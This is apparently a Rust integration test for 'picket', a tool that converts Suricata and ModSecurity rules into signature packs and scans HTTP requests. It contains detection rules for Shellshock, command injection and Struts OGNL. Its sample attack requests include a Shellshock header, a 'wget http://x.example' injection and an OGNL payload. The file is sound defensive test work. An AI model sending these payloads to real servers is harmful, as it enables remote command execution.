//! `picket pack import` as a user runs it: rule files in, a pack out that `picket pack validate`
//! accepts and `picket scan` uses on raw HTTP requests, and a report of what was left out.

use std::path::PathBuf;
use std::process::{Command, Output};

fn picket(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_picket"))
        .args(args)
        .output()
        .expect("run picket")
}

fn dir() -> PathBuf {
    let d = std::env::temp_dir().join(format!("picket-import-test-{}", std::process::id()));
    std::fs::create_dir_all(&d).unwrap();
    d
}

fn tmp(name: &str, content: &[u8]) -> String {
    let p = dir().join(name);
    std::fs::write(&p, content).unwrap();
    p.to_str().unwrap().to_string()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// `picket scan --pack PACK FILE`: the ids of the signatures that matched.
fn scan(pack: &str, request: &[u8], name: &str) -> Vec<String> {
    let req = tmp(name, request);
    let out = picket(&["scan", "--pack", pack, &req]);
    assert!(out.status.success(), "{}", stderr(&out));
    let line: serde_json::Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}"));
    line["matches"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["id"].as_str().unwrap().to_string())
        .collect()
}

const RULES: &str = r##"# LOCAL rules for the importer test
alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"LOCAL Shellshock function definition in a request header"; flow:established,to_server; http.header; content:"() {"; reference:cve,2014-6271; classtype:attempted-admin; sid:9100001; rev:1;)
alert http any any -> any any (msg:"LOCAL /bin/sh in the URI"; content:"/bin/sh"; http_uri; nocase; classtype:web-application-attack; sid:9100002; rev:1;)
alert http any any -> any any (msg:"LOCAL sqlmap user agent"; http.user_agent; content:"sqlmap"; startswith; classtype:attempted-recon; sid:9100003; rev:1;)
alert http any any -> any any (msg:"LOCAL command injection in a body"; http.request_body; content:"cmd="; nocase; pcre:"/cmd=[^&]*\x3b\s*(?:wget|curl)\s/Pi"; classtype:web-application-attack; sid:9100004; rev:1;)

alert http any any -> any any (msg:"LOCAL admin path, positional"; http.uri; content:"/admin"; offset:0; depth:20; sid:9100005; rev:1;)
alert http any any -> any any (msg:"LOCAL response leak"; flow:established,to_client; http.response_body; content:"root:x:0:0"; sid:9100006; rev:1;)
alert http any any -> any any (msg:"LOCAL lookahead"; http.request_body; content:"user="; pcre:"/user=(?!guest)\w+/P"; sid:9100007; rev:1;)
alert http any any -> any any (msg:"LOCAL Struts OGNL in Content-Type"; flow:to_server; http.content_type; content:"%{"; content:"#_memberAccess"; nocase; reference:cve,2017-5638; classtype:attempted-admin; sid:9100008; rev:1;)
"##;

#[test]
fn suricata_rules_to_a_pack_that_scans() {
    let rules = tmp("local.rules", RULES.as_bytes());
    let pack = dir().join("imported.toml");
    let pack = pack.to_str().unwrap();
    let out = picket(&[
        "pack",
        "import",
        "--format",
        "suricata",
        "--action",
        "block",
        "--name",
        "local-import",
        "--version",
        "7",
        "--out",
        pack,
        &rules,
    ]);
    let report = stderr(&out);
    assert!(out.status.success(), "{report}");
    assert!(out.stdout.is_empty(), "the pack goes to --out");
    for want in [
        ":2: sid 9100001: converted to SURI-9100001",
        ":3: sid 9100002: converted to SURI-9100002",
        ":4: sid 9100003: converted to SURI-9100003",
        ":5: sid 9100004: converted to SURI-9100004",
        ":7: sid 9100005: not converted: `depth`/`offset`",
        ":8: sid 9100006: not converted: flow:to_client matches responses",
        ":9: sid 9100007: not converted: pcre: look-ahead",
        ":10: sid 9100008: converted to SURI-9100008",
        "5 converted, 3 not converted",
    ] {
        assert!(report.contains(want), "missing {want:?} in\n{report}");
    }

    let v = picket(&["pack", "validate", pack]);
    assert!(v.status.success(), "{}", stderr(&v));
    assert!(
        String::from_utf8_lossy(&v.stdout).contains("pack local-import version 7: 5 signatures")
    );

    let get = |path: &str, ua: &str| {
        format!("GET {path} HTTP/1.1\r\nHost: app.example\r\nUser-Agent: {ua}\r\n\r\n").into_bytes()
    };
    assert_eq!(
        scan(
            pack,
            &get("/cgi-bin/status", "() { :; }; /bin/id"),
            "ss.http"
        ),
        ["SURI-9100001"]
    );
    assert_eq!(
        scan(pack, &get("/run?c=%2FBIN%2Fsh+-i", "curl/8"), "sh.http"),
        ["SURI-9100002"]
    );
    assert!(scan(pack, &get("/run?c=/bin/bash", "curl/8"), "bash.http").is_empty());
    assert_eq!(
        scan(pack, &get("/", "sqlmap/1.7.2#stable"), "sqlmap.http"),
        ["SURI-9100003"]
    );
    // Near misses: Suricata's content was case-sensitive and anchored, so is the signature.
    assert!(scan(pack, &get("/", "SQLMAP/1.7.2"), "sqlmap-upper.http").is_empty());
    assert!(scan(pack, &get("/", "Mozilla/5.0 sqlmap"), "sqlmap-later.http").is_empty());
    let post = |body: &str| {
        format!(
            "POST /tools HTTP/1.1\r\nHost: app.example\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
        .into_bytes()
    };
    assert_eq!(
        scan(
            pack,
            &post("host=a&CMD=ls; wget http://x.example/s"),
            "cmd.http"
        ),
        ["SURI-9100004"]
    );
    let ognl = |ct: &str| {
        format!("POST /upload.action HTTP/1.1\r\nHost: app.example\r\nContent-Type: {ct}\r\nContent-Length: 0\r\n\r\n")
            .into_bytes()
    };
    assert_eq!(
        scan(
            pack,
            &ognl("%{(#_memberAccess['allowStaticMethodAccess']=true).(#cmd='id')}.multipart/form-data"),
            "ognl.http"
        ),
        ["SURI-9100008"]
    );
    assert!(scan(pack, &ognl("text/plain; x=%{y}"), "ognl-miss.http").is_empty());
    assert!(scan(
        pack,
        &post("cmd=ls&next=; wget http://x.example/s"),
        "cmd-miss.http"
    )
    .is_empty());
}

#[test]
fn phrase_file_to_a_pack_that_scans() {
    let data = tmp(
        "scanners-user-agents.data",
        b"# scanner user agents\nnikto\nsqlmap\n\nmasscan\n",
    );
    let out = picket(&[
        "pack",
        "import",
        "--format",
        "modsec-phrases",
        "--id",
        "MODSEC-SCANNER-UA",
        "--targets",
        "header:user-agent",
        "--severity",
        "low",
        &data,
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains(":3: phrase: converted to MODSEC-SCANNER-UA"));
    let pack = tmp("phrases.toml", &out.stdout);
    let get = |ua: &str| {
        format!("GET / HTTP/1.1\r\nHost: app.example\r\nUser-Agent: {ua}\r\n\r\n").into_bytes()
    };
    assert_eq!(
        scan(&pack, &get("Mozilla/5.00 (Nikto/2.1.6)"), "nikto.http"),
        ["MODSEC-SCANNER-UA"]
    );
    assert!(scan(&pack, &get("Mozilla/5.0 (X11; Linux)"), "firefox.http").is_empty());
    // The default id comes from the file name.
    let out = picket(&["pack", "import", "--format", "modsec-phrases", &data]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("id = \"MODSEC-PM-SCANNERS-USER-AGENTS\"")
    );
}

#[test]
fn exit_status_says_when_rules_were_left_out() {
    let bad = tmp(
        "bad.rules",
        br#"alert dns any any -> any any (msg:"LOCAL dns"; dns.query; content:"evil"; sid:1;)
"#,
    );
    let out = picket(&["pack", "import", "--format", "suricata", &bad]);
    assert_eq!(out.status.code(), Some(1));
    assert!(out.stdout.is_empty());
    assert!(stderr(&out).contains("not converted: protocol `dns`"));

    let mixed = tmp("mixed.rules", RULES.as_bytes());
    let out = picket(&["pack", "import", "--format", "suricata", "--strict", &mixed]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(out.stdout.is_empty());
    let out = picket(&["pack", "import", "--format", "suricata", &mixed]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));

    let out = picket(&[
        "pack",
        "import",
        "--format",
        "suricata",
        "/nonexistent/x.rules",
    ]);
    assert_eq!(out.status.code(), Some(2));
    let out = picket(&[
        "pack",
        "import",
        "--format",
        "suricata",
        "--targets",
        "arg",
        &mixed,
    ]);
    assert_eq!(out.status.code(), Some(2));
}
